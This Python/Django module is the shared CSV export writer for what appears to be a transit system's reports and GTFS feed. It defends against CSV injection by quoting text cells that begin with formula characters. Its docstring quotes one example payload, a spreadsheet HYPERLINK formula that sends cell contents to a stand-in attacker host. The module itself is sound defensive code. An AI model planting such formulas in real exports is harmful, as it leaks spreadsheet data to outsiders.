"""The one CSV writer of every export (reports, dashboard tables, cash close, GTFS feed).

A cell of text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by spreadsheets (CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"Tunis")` in
a station name sends the sheet's cells away when clicked). Such a cell gets a leading `'`
(OWASP's advice), which the spreadsheet shows as text. Numbers stay numbers: a refund of
-2500 millimes is written `-2500`, a value a spreadsheet adds up and never runs, since only
text reaches a sheet as a formula. Dates are written in ISO 8601.
"""

import csv
import io
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """What one cell holds: numbers as numbers, dates in ISO 8601, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    if hasattr(value, "isoformat"):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class Writer:
    """csv.writer's rows, each cell through `cell` unless `spreadsheet=False` (GTFS: a data
    format for journey planners, where a quote would change a station's name)."""

    def __init__(self, *, spreadsheet=True):
        self.out = io.StringIO()
        self._csv = csv.writer(self.out, lineterminator="\r\n")
        self.spreadsheet = spreadsheet

    def row(self, values):
        self._csv.writerow([cell(v) for v in values] if self.spreadsheet else values)

    def rows(self, rows):
        for values in rows:
            self.row(values)

    def text(self):
        return self.out.getvalue()


def csv_text(rows, *, spreadsheet=True):
    writer = Writer(spreadsheet=spreadsheet)
    writer.rows(rows)
    return writer.text()


def csv_response(text, filename):
    """A download: UTF-8 with a byte-order mark, so that Excel opens Arabic names correctly."""
    response = HttpResponse(
        ("\ufeff" + text).encode("utf-8"), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
